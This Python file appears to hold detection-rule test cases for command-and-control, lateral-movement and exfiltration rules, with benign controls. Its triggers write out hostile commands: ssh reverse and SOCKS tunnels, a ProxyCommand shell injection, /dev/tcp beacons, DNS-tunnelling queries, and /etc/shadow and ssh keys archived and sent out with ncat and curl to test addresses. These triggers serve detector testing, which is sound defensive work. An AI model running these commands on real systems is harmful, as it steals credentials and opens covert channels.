# SPDX-License-Identifier: Apache-2.0
"""Lateral movement, command and control, exfiltration (TA0008, TA0011, TA0010):
ssh tunnels, tunnelling tools, socat relays, connections from shells and
interpreters, DNS tunnelling, credential archives sent out, ssh out of a
container. Rules: rules/70_command_and_control.yaml."""
from detlib import Benign, Case

BOTH = ("host", "container")
SSH_TUNNEL = "SSH Reverse or Dynamic Tunnel"
TUNNEL_TOOL = "Tunnelling Tool Executed"
UPLOAD = "Data Uploaded by a Transfer Tool"
ARCHIVE = "Credential Files Archived"
# ssh that never waits: no config, no host key prompt, 1 s to connect.
SSH_OPTS = "-F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no " \
           "-o UserKnownHostsFile=/dev/null -o ConnectTimeout=1"

CASES = [
    Case(id="c2.tunnel.ssh_remote_forward", tactic="command_and_control", technique="T1572",
         rules=[SSH_TUNNEL],
         trigger=rf'''
            det_ns_listen 22
            timeout 3 ssh {SSH_OPTS} -f -N -R 2222:127.0.0.1:22 tunnel@"$DET_NS_ADDR" 2>/dev/null || true
         ''', where=BOTH, needs=["ssh"]),
    Case(id="c2.tunnel.ssh_dynamic_socks", tactic="command_and_control", technique="T1090",
         rules=[SSH_TUNNEL],
         trigger=rf'''
            timeout 3 ssh {SSH_OPTS} -NfD 1080 pivot@"$DET_NS_ADDR" 2>/dev/null || true
         ''', where=BOTH, needs=["ssh"]),
    Case(id="c2.tunnel.ssh_proxycommand_exec", tactic="execution", technique="T1059.004",
         rules=[SSH_TUNNEL],
         trigger=rf'''
            timeout 3 ssh {SSH_OPTS} -o ProxyCommand=';sh -c "id" 0<&2 1>&2' x 2>/dev/null || true
         ''', where=BOTH, needs=["ssh"]),
    Case(id="c2.tunnel.socat_relay", tactic="command_and_control", technique="T1090.001",
         rules=["Socat Port Forwarder"],
         trigger=r'''
            timeout 2 socat "TCP-LISTEN:$DET_PORT,bind=127.0.0.1,reuseaddr,fork" "TCP:${DET_NS_ADDR:-192.0.2.10}:3389" || true
         ''', where=BOTH, needs=["socat"]),
    Case(id="c2.tunnel.chisel_renamed", tactic="command_and_control", technique="T1572",
         rules=[TUNNEL_TOOL],
         trigger=r'''
            cp /bin/true "$DET_DIR/systemd-netlog"
            "$DET_DIR/systemd-netlog" client "$DET_NS_ADDR:8000" R:socks
         ''', where=BOTH),
    Case(id="c2.tunnel.frpc_by_name", tactic="command_and_control", technique="T1572",
         rules=[TUNNEL_TOOL],
         trigger=r'''
            mkdir -p "$DET_DIR/bin" && cp /bin/true "$DET_DIR/bin/frpc"
            printf '[common]\nserver_addr = %s\nserver_port = 7000\n' "$DET_NS_ADDR" > "$DET_DIR/frpc.ini"
            "$DET_DIR/bin/frpc" -c "$DET_DIR/frpc.ini"
         ''', where=BOTH),
    Case(id="c2.beacon.bash_devtcp", tactic="command_and_control", technique="T1095",
         rules=["Shell Opened a Network Connection"],
         trigger=r'''
            det_ns_listen 8081
            timeout 3 bash -c 'exec 3<>/dev/tcp/'"$DET_NS_ADDR"'/8081; echo "beacon $(hostname)" >&3; exec 3>&-' || true
         ''', where=BOTH),
    Case(id="c2.beacon.python_unusual_port", tactic="command_and_control", technique="T1571",
         rules=["Interpreter Connected to an Unusual Port"],
         trigger=r'''
            det_ns_listen 7443
            timeout 3 /usr/bin/python3 -c 'import socket;s=socket.create_connection(("'"$DET_NS_ADDR"'",7443),2);s.sendall(b"hello");s.close()' || true
         ''', where=BOTH),
    Case(id="c2.beacon.perl_unusual_port", tactic="command_and_control", technique="T1571",
         rules=["Interpreter Connected to an Unusual Port"],
         trigger=r'''
            det_ns_listen 6667
            timeout 3 perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"'"$DET_NS_ADDR"'",PeerPort=>6667,Timeout=>2); print $s "NICK bot\r\n" if $s;' || true
         ''', where=BOTH, needs=["perl"]),
    Case(id="c2.dns.dig_encoded_label", tactic="exfiltration", technique="T1048.003",
         rules=["DNS Tunnelling Query"],
         trigger=r'''
            data=$(head -c 40 /etc/hostname /etc/os-release | base32 -w0 | tr -d '=' | cut -c1-60 | tr 'A-Z' 'a-z')
            timeout 3 dig +tries=1 +time=1 -p "$DET_PORT" @127.0.0.1 "$data.x1.exfil-test.example" >/dev/null 2>&1 || true
         ''', where=BOTH, needs=["dig"]),
    Case(id="c2.dns.nslookup_many_labels", tactic="command_and_control", technique="T1071.004",
         rules=["DNS Tunnelling Query"],
         trigger=r'''
            timeout 3 nslookup -port="$DET_PORT" -timeout=1 -retry=0 "a1b2.c3d4.e5f6.a7b8.c9d0.e1f2.a3b4.c5d6.t.example" 127.0.0.1 >/dev/null 2>&1 || true
         ''', where=BOTH, needs=["nslookup"]),
    Case(id="c2.dns.iodine_by_name", tactic="command_and_control", technique="T1071.004",
         rules=[TUNNEL_TOOL],
         trigger=r'''
            mkdir -p "$DET_DIR/bin" && cp /bin/true "$DET_DIR/bin/iodine"
            "$DET_DIR/bin/iodine" -f -P secret t1.example.com
         ''', where=BOTH),
    Case(id="c2.exfil.tar_shadow_to_ncat", tactic="exfiltration", technique="T1048",
         rules=[ARCHIVE, UPLOAD],
         trigger=r'''
            det_ns_listen 8443
            timeout 3 bash -c "tar czf - /etc/shadow /etc/ssh/ssh_host_ed25519_key 2>/dev/null | ncat --send-only $DET_NS_ADDR 8443" || true
         ''', where=("host",), needs=["ncat"]),
    Case(id="c2.exfil.zip_ssh_curl_upload", tactic="exfiltration", technique="T1567",
         rules=[ARCHIVE, UPLOAD],
         trigger=r'''
            mkdir -p "$DET_DIR/home/.ssh" && echo "-----BEGIN OPENSSH PRIVATE KEY-----" > "$DET_DIR/home/.ssh/id_rsa"
            (cd "$DET_DIR" && zip -qr loot.zip home/.ssh/)
            det_ns_listen 8080
            timeout 3 curl -s -m 2 -T "$DET_DIR/loot.zip" "http://$DET_NS_ADDR:8080/up" || true
         ''', where=BOTH, needs=["zip", "curl"]),
    Case(id="c2.exfil.curl_form_post", tactic="exfiltration", technique="T1048",
         rules=[UPLOAD],
         trigger=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            tar czf "$DET_DIR/etc.tgz" -C / etc/hostname etc/passwd
            timeout 3 curl -s -m 2 -F "f=@$DET_DIR/etc.tgz" "http://127.0.0.1:$DET_PORT/" || true
         ''', where=BOTH, needs=["curl"]),
    Case(id="c2.exfil.curl_uploads_shadow", tactic="exfiltration", technique="T1048",
         rules=["Credential File Read by a Network Tool", UPLOAD],
         trigger=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            timeout 3 curl -s -m 2 -T /etc/shadow "http://127.0.0.1:$DET_PORT/s" || true
         ''', where=BOTH, needs=["curl"]),
    Case(id="lateral_movement.container_ssh_out", tactic="lateral_movement", technique="T1021.004",
         rules=["SSH or SCP from a Container"],
         trigger=rf'''
            echo data > "$DET_DIR/notes"
            timeout 3 scp {SSH_OPTS} "$DET_DIR/notes" root@"$DET_NS_ADDR":/tmp/ 2>/dev/null || true
         ''', where=("container",), needs=["scp"]),
    Case(id="credential_access.shadow.text_tool_args", tactic="credential_access", technique="T1003.008",
         rules=["Shadow File Read by Command Line Tool"],
         trigger=r'''
            cat /etc/shadow > /dev/null
         ''', where=BOTH),
]

BENIGN = [
    Benign(id="benign.c2.ssh_local_forward_and_jump", script=rf'''
            timeout 3 ssh {SSH_OPTS} -N -L 15432:127.0.0.1:5432 admin@"$DET_NS_ADDR" 2>/dev/null || true
            timeout 3 ssh {SSH_OPTS} -o ProxyJump=admin@"$DET_NS_ADDR" admin@10.0.0.5 true 2>/dev/null || true
            ssh -V 2>/dev/null
         ''', where=("host",), needs=["ssh"]),
    Benign(id="benign.c2.tar_backup_and_scp_file", script=r'''
            tar czf "$DET_DIR/etc-backup.tgz" /etc 2>/dev/null || true
            tar tzf "$DET_DIR/etc-backup.tgz" >/dev/null
            echo report > "$DET_DIR/r.txt"
            scp -q "$DET_DIR/r.txt" "$DET_DIR/r2.txt"
         ''', where=("host",), needs=["scp"]),
    Benign(id="benign.c2.dns_lookups", script=r'''
            timeout 3 dig +tries=1 +time=1 -p "$DET_PORT" @127.0.0.1 www.example.com >/dev/null 2>&1 || true
            timeout 3 dig +tries=1 +time=1 -p "$DET_PORT" @127.0.0.1 -x 192.0.2.1 >/dev/null 2>&1 || true
            timeout 3 host -W 1 -p "$DET_PORT" _acme-challenge.mail.example.org 127.0.0.1 >/dev/null 2>&1 || true
            getent hosts localhost >/dev/null
         ''', where=BOTH, needs=["dig", "host"]),
    Benign(id="benign.c2.python_connects_to_web_and_local_db", script=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            /usr/bin/python3 -c 'import socket;socket.create_connection(("127.0.0.1",'"$DET_PORT"'),2).close()'
            timeout 3 /usr/bin/python3 -c 'import socket;socket.create_connection(("'"$DET_NS_ADDR"'",443),2).close()' || true
         ''', where=BOTH),
    Benign(id="benign.c2.curl_get_json", script=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            timeout 2 curl -s -m 1 -H 'Accept: application/json' "http://127.0.0.1:$DET_PORT/health" || true
         ''', where=BOTH, needs=["curl"]),
]

# Sequence and threshold rules (the end of rules/70_command_and_control.yaml).
CASES += [
    Case(id="c2.seq.dns_query_burst", tactic="command_and_control", technique="T1071.004",
         rules=["DNS Query Burst from One Process"],
         trigger=r'''
            /usr/bin/python3 - <<'EOF'
import base64, os, socket
data = base64.b32encode(os.urandom(600)).decode().lower().rstrip("=")
for i in range(0, len(data), 30):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("127.0.0.1", 53))
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in (data[i:i + 30], "t", "example"):
        q += bytes([len(label)]) + label.encode()
    s.send(q + b"\x00\x00\x10\x00\x01")
    s.close()
EOF
         ''', where=BOTH),
    Case(id="c2.seq.credential_archive_sent", tactic="exfiltration", technique="T1048",
         rules=["Credential Archive Sent Over the Network"],
         trigger=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            tar czf "$DET_DIR/l.tgz" /etc/shadow 2>/dev/null || true
            timeout 3 curl -s -m 2 --data-binary "@$DET_DIR/l.tgz" "http://127.0.0.1:$DET_PORT/" || true
         ''', where=BOTH, needs=["curl"]),
    Case(id="c2.seq.beacon_loop", tactic="command_and_control", technique="T1071",
         rules=["Periodic Beacon from Shell or Interpreter"],
         trigger=r'''
            det_ns_listen 8088
            for i in $(seq 1 25); do
                timeout 2 bash -c 'echo "ping '"$i"'" > /dev/tcp/'"$DET_NS_ADDR"'/8088' || true
            done
         ''', where=("host",)),
]
